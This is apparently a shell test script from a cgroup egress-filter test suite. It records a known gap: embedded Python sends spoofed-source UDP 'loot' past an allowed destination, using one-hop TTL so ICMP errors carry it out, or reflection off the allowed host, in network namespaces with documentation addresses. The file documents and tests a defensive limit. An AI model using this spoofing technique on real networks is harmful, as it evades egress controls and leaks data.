#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends to an allowed host in the name of another one: with a hop limit of 1, so that the first router's ICMP error takes the data there, and by reflection off the allowed host itself
# stopped-by: none: no hook on a cgroup can tell a foreign source from the client's own; a filter against spoofed sources on the client's link can (rp_filter=1, or the network plugin's)
# reason: none: the policy allows the destination
# kernels: all
#
# A limit, recorded so that nobody takes it for shut. IPv6 needs no privilege for it (IPV6_FREEBIND), IPv4
# needs CAP_NET_RAW (IP_TRANSPARENT). The router's error carries a kilobyte and has the router's own source.
# IPv4 is shown to be shut by rp_filter on the router; Linux has no such filter of its own for IPv6.
. "$(dirname "$0")/lib.sh"
arena udp/9000

# A second hop: the server becomes a router, and the evil addresses are behind it. The watch is there.
new_netns far && FAR=$REPLY
ip -n "$SERVER" link add eth1 type veth peer name eth0 netns "$FAR"
ip -n "$SERVER" address add 10.1.0.1/24 dev eth1
ip -n "$SERVER" address add fd01::1/64 dev eth1 nodad
ip -n "$FAR" address add 10.1.0.2/24 dev eth0
ip -n "$FAR" address add fd01::2/64 dev eth0 nodad
ip -n "$SERVER" link set eth1 up
ip -n "$FAR" link set eth0 up
wait_for 5 no_tentative "$FAR"
wait_for 5 no_tentative "$SERVER"
server ip route del local 203.0.113.0/24 dev lo
server ip route add 203.0.113.0/24 via 10.1.0.2
server ip route add 2001:db8:bad::/48 via fd01::2 table local
server ip route add 198.51.100.66/32 via 10.1.0.2 table local
server ip route add 2001:db8:a00::66/128 via fd01::2 table local
server sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1 net.ipv4.icmp_ratelimit=0 \
	net.ipv6.icmp.ratelimit=0
spawn_in "$FAR" "$ATTACKS/watch" "$SCRATCH/far"
wait_for 5 grep -qs '^ready' "$SCRATCH/far" || fail "the second watch did not start"
WATCHED=$SCRATCH/far

attack_by <<'PYTHON'
from attacker import *

IPV6_FREEBIND, IP_TRANSPARENT = 78, 19
BEYOND4, BEYOND6 = "198.51.100.66", "2001:db8:a00::66" # allowed, behind the router

def spoofing(evil):
    sock = udp(evil)
    if ":" in evil:
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    else:
        sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    sock.bind((evil, 0))
    return sock

with attempt("one hop, IPv6"):
    sock = spoofing(EVIL6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 1)
    sock.sendto(loot("hop6"), (BEYOND6, 9000))
with attempt("one hop, IPv4"):
    sock = spoofing(EVIL4)
    sock.setsockopt(socket.SOL_IP, socket.IP_TTL, 1)
    sock.sendto(loot("hop4"), (BEYOND4, 9000))
with attempt("reflected, IPv6"):
    spoofing(EVIL6).sendto(loot("reflected6"), (GOOD6, 9000))
with attempt("reflected, IPv4"):
    spoofing(EVIL4).sendto(loot("reflected4"), (GOOD4, 9000))
udp(BEYOND6).sendto(honest("far"), (BEYOND6, 9000))
PYTHON
works stolen:hop6 stolen:hop4 stolen:reflected6 stolen:reflected4
gate_on "$CG" --allow 198.51.100.66/32=udp/9000 --allow 2001:db8:a00::66/128=udp/9000
NOT_COUNTED='stolen:(hop|reflected)'
stopped
passes stolen:hop6 stolen:hop4 stolen:reflected6 stolen:reflected4 honest:far

server sysctl -qw net.ipv4.conf.eth0.rp_filter=1
NOT_COUNTED='stolen:(hop|reflected)6'
stopped
